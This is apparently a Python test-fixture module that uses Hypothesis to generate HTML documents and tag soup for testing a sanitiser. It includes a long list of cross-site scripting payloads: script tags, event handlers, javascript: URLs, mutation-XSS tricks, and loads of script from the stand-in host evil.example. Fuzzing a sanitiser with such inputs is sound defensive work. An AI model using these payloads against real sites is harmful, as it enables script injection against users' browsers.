"""What the tests of the author's text are made of: attacks, odd characters, made-up documents."""

from html import escape

from hypothesis import strategies as st

# Gathered from the shapes that known attacks take; every line is written for this test.
ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=/media/a.webp alt=a onload=alert(1)>",
    '<img src="/media/a.webp"onerror="alert(1)"alt="a">',
    "<img/src=/media/a.webp/onerror=alert(1)//alt=a>",
    '<img src="/media/a.webp" alt="&quot; onerror=&quot;alert(1)">',
    "<img src='/media/a.webp' alt='\"><script>alert(1)</script>'>",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="a">',
    '<img src="/media/../desk/leave" alt="a">',
    '<img src="//evil.example/media/a.webp" alt="a">',
    '<img src="https://evil.example/pixel.gif" alt="a">',
    '<img srcset="https://evil.example/a 2x" src="/media/a.webp" alt="a">',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '<a href="java\nscript:alert(1)">a</a>',
    '<a href="java&#9;script:alert(1)">a</a>',
    '<a href="java&Tab;script&colon;alert(1)">a</a>',
    '<a href="&#106;&#97;vascript&#58;alert(1)">a</a>',
    '<a href="&#0000106avascript:alert(1)">a</a>',
    '<a href="\x01javascript:alert(1)">a</a>',
    '<a href="java\x00script:alert(1)">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<a href="//evil.example">a</a>',
    '<a href="/\\evil.example">a</a>',
    '<a href="/\t/evil.example">a</a>',
    '<a href="https:javascript:alert(1)">a</a>',
    '<a href="/a" onclick="alert(1)" style="x:expression(alert(1))">a</a>',
    '<a href="/a"onfocus=alert(1) autofocus tabindex=1>a</a>',
    "<a href='/a&quot; onclick=&quot;alert(1)'>a</a>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><img title="</style><img src onerror=alert(1)>">',
    '<math href="javascript:alert(1)">a</math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>a</button></form>',
    '<button formaction="javascript:alert(1)">a</button>',
    '<input onfocus="alert(1)" autofocus>',
    '<details open ontoggle="alert(1)"><summary>a</summary></details>',
    '<video><source onerror="alert(1)"></video>',
    "<body onload=alert(1)>",
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<style>@import 'javascript:alert(1)';</style>",
    '<p style="background:url(javascript:alert(1))">a</p>',
    '<b style="font-weight:normal;behavior:url(x)">a</b>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    '<title><img src=x onerror=alert(1)></title>',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<table><td background='javascript:alert(1)'>a<td>b</table>",
    "<td colspan='2\" onmouseover=\"alert(1)'>a</td>",
    "<p/onmouseover=alert(1)>a",
    "<p onclick=`alert(1)`>a</p>",
    "<p\x0conclick=alert(1)>a</p>",
    "<x onclick=alert(1)>a</x>",
    "</p onclick=alert(1)>a",
)  # fmt: skip

# Markdown syntax, quotes, wide and joined characters: all of them words here.
_ALPHABET = (
    "abcXYZ019 *_#|<>[]()`~!&;:.,-+=\\/'\"\u00a0\u202f\u00e9\u201c\u2019\u2014\u65e5\U0001f44b"
)


def _split(pieces: str) -> list[str]:
    return pieces.split("|")


words = st.one_of(
    st.text(_ALPHABET, min_size=1, max_size=24),
    st.sampled_from(
        _split(
            "1. a|2) b|# c|- d|+ e|> f|--- |===|***|___|~~~|```|:-- x|&copy; g|&#65;|a_b_c|[x]: /y"
            "|![x](y)|<br>|<b>h</b>|http://a.b|    i|wow!|\\"
        )
    ),
)


def _wrapped(tag: str, inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return inner.map(lambda html: f"<{tag}>{html}</{tag}>")


text = words.map(lambda said: escape(said, quote=False))
links = st.tuples(
    st.sampled_from(["https://a.example/b(c)?d=1&amp;copy;=2", "/posts/1", "mailto:a@b.example"]),
    text,
).map(lambda pair: f'<a href="{pair[0]}">{pair[1]}</a>')
pictures = words.map(lambda alt: f'<img src="/media/a-b_1.webp" alt="{escape(alt)}">')
line = st.recursive(
    st.one_of(text, links, pictures, st.just("<br>")),
    lambda inner: st.one_of(
        _wrapped("strong", inner), _wrapped("em", inner), st.lists(inner, max_size=4).map("".join)
    ),
    max_leaves=8,
)
figures = st.tuples(pictures, line).map(
    lambda pair: f"<figure>{pair[0]}<figcaption>{pair[1]}</figcaption></figure>"
)


@st.composite
def tables(draw: st.DrawFn) -> str:
    width = draw(st.integers(1, 3))
    rows = draw(st.lists(st.lists(line, min_size=width, max_size=width), min_size=1, max_size=3))
    head = "th" if draw(st.booleans()) else "td"
    written = ["".join(f"<{head if not at else 'td'}>{c}" for c in r) for at, r in enumerate(rows)]
    return f"<table>{''.join(f'<tr>{row}' for row in written)}</table>"


def _containers(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    items = st.lists(_wrapped("li", inner), min_size=1, max_size=3).map("".join)
    return st.one_of(
        _wrapped("ul", items),
        _wrapped("ol", items),
        _wrapped("blockquote", inner),
        st.lists(inner, max_size=4).map("".join),
    )


documents = st.recursive(
    st.one_of(
        line,
        _wrapped("p", line),
        _wrapped("h2", line),
        _wrapped("h3", line),
        figures,
        tables(),
        st.just("<hr>"),
    ),
    _containers,
    max_leaves=10,
)
# Not documents at all: tags in any order, open, crossed and broken.
soup = st.lists(
    st.one_of(
        text,
        st.text(max_size=6),
        st.sampled_from(ATTACKS),
        st.sampled_from(
            _split(
                "<p>|</p>|<b>|</b>|<i>|</i>|<ul>|</ul>|<ol>|<li>|</li>|<table>|</table>|<tr>|<td>|<th>"
                "|</td>|<thead>|</thead>|<caption>|<h1>|</h1>|<h5>|<blockquote>|</blockquote>|<br>|<hr>"
                "|<figure>|</figure>|<figcaption>|<div>|</div>|<pre>|</pre>|<a href=/x>|</a>| |\n"
                "|<img src=/media/a.webp alt=a>|<p style='mso-list:l0 level2 lfo1'>"
                "|<span style='font-weight:700'>|</span>"
            )
        ),
    ),
    max_size=24,
).map("".join)
